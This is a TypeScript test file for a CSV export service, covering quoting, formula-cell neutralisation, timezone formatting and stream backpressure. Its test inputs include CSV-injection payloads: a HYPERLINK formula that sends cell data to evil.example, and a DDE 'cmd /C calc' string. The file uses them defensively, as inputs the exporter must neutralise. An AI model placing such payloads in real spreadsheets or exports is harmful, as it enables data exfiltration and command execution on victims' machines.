// The exports' CSV: quoting, formula cells neutralised, instants on the organization's clock, and a
// stream that reads the next chunk only when the consumer wants more.
import { Readable, Writable } from 'node:stream';
import { csvCell, csvChunks, csvLine, zonedTime } from '../../src/services/common/csv';
import { LEDGER_COLUMNS } from '../../src/services/clients/export-ledger';
import { cellOf } from '../../src/services/payments/export-payments';

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'],
    ['+1+cmd|\' /C calc\'!A0', "\"'+1+cmd|' /C calc'!A0\""],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tTAB', "\"'\tTAB\""],
    ['\r=1', '"\'\r=1"'],
    ['-100.00', '-100.00'], // a plain number stays a number
    ['500.00', '500.00'],
    ['a, b', '"a, b"'],
    ['line\nbreak', '"line\nbreak"'],
    ['He said "hi"', '"He said ""hi"""'],
    ['Пополнение баланса', 'Пополнение баланса'],
    ['', ''],
    // separators a spreadsheet may split on instead of the comma (ru-RU Excel: `;`): quoted, so the cell stays whole
    ['a;=1+1;b', '"a;=1+1;b"'],
    ['a\t=1+1', '"a\t=1+1"'],
    ['a|=1+1', '"a|=1+1"'],
    ['=1+1;b', '"\'=1+1;b"'], // the cell's start is still neutralised
    ['desk; =cmd', '"desk; =cmd"'], // tags as the export joins them
    ['1;2', '"1;2"'],
  ])('%j → %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('a line is cells joined by commas, ended by CRLF; null is an empty cell', () => {
    expect(csvLine(['a', null, '=1', undefined])).toBe("a,,'=1,\r\n");
  });

  it('tags (joined by "; ") and a ledger entry\'s reason are each one quoted cell', () => {
    const time = zonedTime('UTC');
    expect(csvCell(cellOf('list', ['desk', '=cmd'], 'RUB', time))).toBe('"desk; =cmd"');
    const reason = LEDGER_COLUMNS.findIndex((c) => c.header === 'reason');
    expect(reason).toBeGreaterThan(0);
    const line = csvLine(LEDGER_COLUMNS.map((c, i) => (i === reason ? cellOf(c.kind, 'desk;=1+1;cash|x', 'RUB', time) : null)));
    expect(line).toBe(`${','.repeat(reason)}"desk;=1+1;cash|x"${','.repeat(LEDGER_COLUMNS.length - reason - 1)}\r\n`);
    expect(csvLine(LEDGER_COLUMNS.map((c, i) => (i === reason ? cellOf(c.kind, '=1+1;x', 'RUB', time) : null)))).toContain('"\'=1+1;x"');
  });
});

describe('instants on the organization\'s clock', () => {
  it.each([
    ['Europe/Moscow', '2026-12-03T14:48:45.123Z', '2026-12-03T17:48:45.123+03:00'],
    ['UTC', '2026-12-03T14:48:45.000Z', '2026-12-03T14:48:45.000+00:00'],
    ['Asia/Kolkata', '2026-12-31T20:00:00.005Z', '2027-01-01T01:30:00.005+05:30'],
    ['America/New_York', '2026-03-08T06:59:59.999Z', '2026-03-08T01:59:59.999-05:00'], // the second before DST
    ['America/New_York', '2026-03-08T07:00:00.000Z', '2026-03-08T03:00:00.000-04:00'],
    ['America/St_Johns', '2026-07-01T12:00:00.000Z', '2026-07-01T09:30:00.000-02:30'],
  ])('%s: %s → %s', (zone, instant, shown) => {
    expect(zonedTime(zone)(new Date(instant))).toBe(shown);
  });
});

describe('csvChunks as a stream', () => {
  it('sends the header and every chunk in order, and stops after a short chunk', async () => {
    const pages = [[3, 4], [5]];
    const out: string[] = [];
    for await (const text of csvChunks(['n'], [1, 2], 2, async () => pages.shift()!, (n) => csvLine([String(n)]))) out.push(text);
    expect(out.join('')).toBe('n\r\n1\r\n2\r\n3\r\n4\r\n5\r\n');
    expect(pages).toEqual([]);
  });

  it('reads the next chunk only when the consumer drains what it has', async () => {
    let reads = 0;
    const big = 'x'.repeat(40_000);
    const csv = csvChunks(['h'], ['first'], 1, async () => { reads++; return [`row${reads}`]; }, () => `${big}\r\n`);
    const stream = Readable.from(csv, { objectMode: false });
    let release!: () => void;
    let received = 0;
    const slow = new Writable({
      highWaterMark: 1024,
      write(chunk, _enc, done) {
        received += chunk.length;
        if (received > 100_000) release = done; // stops taking more
        else done();
      },
    });
    stream.pipe(slow);
    await new Promise((r) => setTimeout(r, 200));
    const readsWhileStalled = reads;
    expect(readsWhileStalled).toBeLessThanOrEqual(4); // not the endless source drained into memory
    await new Promise((r) => setTimeout(r, 200));
    expect(reads).toBe(readsWhileStalled);
    stream.destroy();
    release?.();
  });
});
